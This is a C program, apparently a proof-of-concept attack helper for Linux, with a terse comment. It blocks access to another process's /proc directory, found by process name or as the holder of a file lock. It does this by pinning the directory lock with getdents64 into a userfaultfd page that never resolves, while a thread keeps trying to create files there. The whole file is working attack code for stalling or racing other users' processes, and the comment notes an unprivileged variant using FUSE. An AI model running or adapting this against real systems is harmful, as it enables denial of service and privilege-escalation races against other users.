/* Holds the folder in /proc of a process as soon as it is made, or as soon as it has a lock: as nobody, by getdents64
 * into a page that never comes (userfaultfd, made as root here; without any privilege a file of FUSE does), and by a
 * second thread that waits to make a file there, so that who looks up a name waits behind it.
 *
 * grabbing child COMM PID    the next process of that name, but not PID
 * grabbing lock INODE        who has the flock on that file, as /proc/locks tells everybody
 *
 * Says "ready", and "holds PID" when it does. */
#define _GNU_SOURCE
#include <fcntl.h>
#include <grp.h>
#include <linux/userfaultfd.h>
#include <pthread.h>
#include <sched.h>
#include <stdatomic.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/syscall.h>
#include <unistd.h>

static void *page;
static atomic_int target;

static void fail(const char *what)
{
	perror(what);
	exit(1);
}

static void make_page(void)
{
	int uffd = syscall(SYS_userfaultfd, O_CLOEXEC);
	struct uffdio_api api = { .api = UFFD_API };
	struct uffdio_register range = { .mode = UFFDIO_REGISTER_MODE_MISSING };

	if (uffd < 0 || ioctl(uffd, UFFDIO_API, &api))
		fail("userfaultfd");
	page = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
	range.range.start = (unsigned long)page;
	range.range.len = 4096;
	if (ioctl(uffd, UFFDIO_REGISTER, &range))
		fail("UFFDIO_REGISTER");
}

static void *make_files(void *unused)
{
	char path[64];
	int pid, fd;

	(void)unused;
	while (!(pid = atomic_load(&target)))
		sched_yield();
	snprintf(path, sizeof(path), "/proc/%d/x", pid);
	for (;;) {
		fd = open(path, O_CREAT | O_RDONLY, 0600);
		if (fd >= 0)
			close(fd);
	}
	return NULL;
}

static void hold(int folder, int pid)
{
	atomic_store(&target, pid);
	dprintf(1, "holds %d\n", pid);
	for (;;) {
		syscall(SYS_getdents64, folder, page, 4096);
		lseek(folder, 0, SEEK_SET);
	}
}

static int folder_of(int pid, int tries)
{
	char path[64];
	int fd = -1;

	snprintf(path, sizeof(path), "/proc/%d", pid);
	while (fd < 0 && tries-- > 0)
		fd = open(path, O_RDONLY | O_DIRECTORY);
	return fd;
}

static int is_called(int folder, const char *wanted)
{
	char comm[32] = "";
	int fd = openat(folder, "comm", O_RDONLY);

	if (fd < 0)
		return 0;
	ssize_t length = read(fd, comm, sizeof(comm) - 1);
	close(fd);
	comm[length > 0 ? length - 1 : 0] = 0;
	return !strcmp(comm, wanted);
}

static int last_pid(int loadavg)
{
	char text[128];
	ssize_t length = pread(loadavg, text, sizeof(text) - 1, 0);

	if (length <= 0)
		return 0;
	text[length] = 0;
	return atoi(strrchr(text, ' ') + 1);
}

static void grab_child(const char *comm, int not_this)
{
	int loadavg = open("/proc/loadavg", O_RDONLY);
	int seen = last_pid(loadavg);

	dprintf(1, "ready\n");
	for (;;) {
		int now = last_pid(loadavg);

		if (now == seen)
			continue;
		for (int pid = now > seen ? seen + 1 : now; pid <= now; pid++) {
			int folder = folder_of(pid, pid == now ? 300 : 1);

			if (folder < 0)
				continue;
			if (pid != not_this && is_called(folder, comm))
				hold(folder, pid);
			close(folder);
		}
		seen = now;
	}
}

static void grab_holder(const char *inode)
{
	static char text[65536];
	int locks = open("/proc/locks", O_RDONLY), pid = 0, folder;
	char wanted[64];

	snprintf(wanted, sizeof(wanted), ":%s ", inode);
	dprintf(1, "ready\n");
	for (;;) {
		ssize_t length = pread(locks, text, sizeof(text) - 1, 0);

		if (length <= 0)
			continue;
		text[length] = 0;
		char *line = strstr(text, wanted);
		if (!line)
			continue;
		while (line > text && line[-1] != '\n')
			line--;
		if (sscanf(line, "%*s FLOCK ADVISORY WRITE %d", &pid) != 1 || pid <= 0)
			continue;
		folder = folder_of(pid, 1);
		if (folder >= 0)
			hold(folder, pid);
	}
}

int main(int argc, char **argv)
{
	pthread_t thread;

	if (argc < 3)
		return 2;
	make_page();
	alarm(200);
	if (setgroups(0, NULL) || setresgid(65534, 65534, 65534) || setresuid(65534, 65534, 65534))
		fail("setresuid");
	if (pthread_create(&thread, NULL, make_files, NULL))
		fail("pthread_create");
	if (!strcmp(argv[1], "lock"))
		grab_holder(argv[2]);
	grab_child(argv[2], argc > 3 ? atoi(argv[3]) : 0);
	return 0;
}
